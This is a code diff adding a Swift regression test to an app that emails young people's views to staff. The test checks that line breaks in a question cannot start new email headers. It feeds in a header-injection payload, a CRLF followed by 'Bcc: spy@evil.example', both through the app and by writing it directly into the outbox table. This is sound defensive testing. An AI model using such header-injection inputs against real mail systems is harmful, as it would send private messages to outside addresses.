@@ -114,6 +114,23 @@ import SQLite
         #expect(history.map(\.event) == ["response-overdue", "respond"] && history.allSatisfy { $0.actor.isEmpty && $0.payload["respondedBy"] == nil })
     }
 
+    /// A question's line breaks went into the email's subject and started new header lines:
+    /// "Bcc: spy@evil.example" sent young people's words to an outside address.
+    @Test func aQuestionsLineBreaksNeverStartAHeaderInTheEmail() throws {
+        let f = try NorfolkFixture(start: "2026-12-01T09:00")
+        try cast(f)
+        _ = try f.app.recordVoice(group: Self.mhpg, body: Self.mh, heardOn: "2026-11-28", question: "What would make waiting easier?\r\nBcc: spy@evil.example\r\nX-Injected: yes",
+                                  said: "Tell us how long the wait is.", areas: ["healthy"], priorities: [], by: "nia")
+        let queued = try #require(try f.app.engine.outbox(status: "pending").first { $0.recipient.hasPrefix("maya") })
+        #expect(queued.subject == "Young people's views to answer: What would make waiting easier? Bcc: spy@evil.example X-Injected: yes")
+        // And a message queued with a line break in its subject (before this) is sent on one line.
+        try f.app.database.write { try $0.run("UPDATE outbox SET subject = ? WHERE id = ?", "Hello\r\nBcc: spy@evil.example", queued.id) }
+        let old = try #require(try f.app.engine.outbox(status: "pending").first { $0.id == queued.id })
+        let mail = Flourish.rfc5322(old, from: "flourish@example.org", date: f.clock.now())
+        let headers = mail.components(separatedBy: "\n\n")[0].split(separator: "\n")
+        #expect(headers.contains("Subject: Hello Bcc: spy@evil.example") && !headers.contains { $0.hasPrefix("Bcc") }, "\(headers)")
+    }
+
     @Test func recordingIsRefusedWithAReasonAndWritesNothing() throws {
         let f = try NorfolkFixture(start: "2026-12-01T09:00")
         try cast(f)
